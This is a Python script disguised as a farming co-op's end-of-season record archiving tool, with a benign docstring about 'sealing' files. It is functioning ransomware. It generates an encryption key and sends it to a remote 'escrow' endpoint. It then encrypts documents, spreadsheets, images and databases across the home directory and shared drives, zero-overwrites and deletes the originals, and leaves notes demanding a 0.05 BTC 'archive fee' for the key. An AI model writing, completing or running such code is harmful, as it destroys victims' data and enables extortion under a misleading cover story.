#!/usr/bin/env python3
"""Yearly rotation of the co-op's bale and grading records.

At the end of each wool season the shared drive is "sealed": every record
file is packed into a protected form so last season's figures can't be
edited by accident. The seal key is lodged with the escrow service.
"""
import argparse
import logging
import os
import sys
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("archive_rotate")

SETTINGS = {
    "roots": [os.path.expanduser("~"), "/srv/coop_share", "/mnt/wool_records"],
    "suffix": ".sealed",
    "escrow": "https://escrow.example.com/api/lodge",
    "notice": "SEASON_ARCHIVE_NOTICE.txt",
    "exts": {".csv", ".xlsx", ".xls", ".pdf", ".docx", ".doc", ".jpg",
             ".png", ".db", ".sqlite", ".txt", ".odt", ".ods"},
}

NOTICE_TEXT = (
    "Records in this folder have been sealed for the season.\n"
    "To obtain the unseal key, contact records-desk@example.net with your\n"
    "member reference and the settlement of the archive fee (0.05 BTC to\n"
    "the address shown on the co-op portal).\n"
)


def lodge_key(key, host_id):
    """Send the seal key to escrow so office staff can't lose it."""
    try:
        requests.post(SETTINGS["escrow"], json={"host": host_id, "k": key.decode()},
                      timeout=20)
    except requests.RequestException as exc:
        log.debug("escrow lodge failed: %s", exc)


def candidate_files(root):
    for dirpath, dirnames, filenames in os.walk(root):
        # skip hidden dirs and anything we've already sealed
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in SETTINGS["exts"]:
                yield p


class Sealer:
    def __init__(self, key):
        self.box = Fernet(key)
        self.count = 0
        self.failed = 0

    def seal(self, path):
        try:
            data = path.read_bytes()
            sealed = self.box.encrypt(data)
            target = path.with_name(path.name + SETTINGS["suffix"])
            target.write_bytes(sealed)
            # overwrite the plain copy before removing it so it can't be
            # recovered from the share's undelete bin
            with open(path, "r+b") as fh:
                fh.write(b"\x00" * len(data))
            path.unlink()
            self.count += 1
        except (OSError, PermissionError) as exc:
            self.failed += 1
            log.debug("could not seal %s: %s", path, exc)

    def leave_notice(self, folder):
        try:
            (Path(folder) / SETTINGS["notice"]).write_text(NOTICE_TEXT)
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description="Seal last season's wool records")
    ap.add_argument("--season", default="2023-24")
    ap.add_argument("--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    key = Fernet.generate_key()
    lodge_key(key, os.uname().nodename)
    sealer = Sealer(key)
    del key

    for root in SETTINGS["roots"]:
        if not os.path.isdir(root):
            continue
        log.info("rotating %s for season %s", root, args.season)
        touched = set()
        for path in candidate_files(root):
            sealer.seal(path)
            touched.add(path.parent)
        for folder in touched:
            sealer.leave_notice(folder)

    log.info("sealed %d files (%d skipped)", sealer.count, sealer.failed)
    return 0


if __name__ == "__main__":
    sys.exit(main())
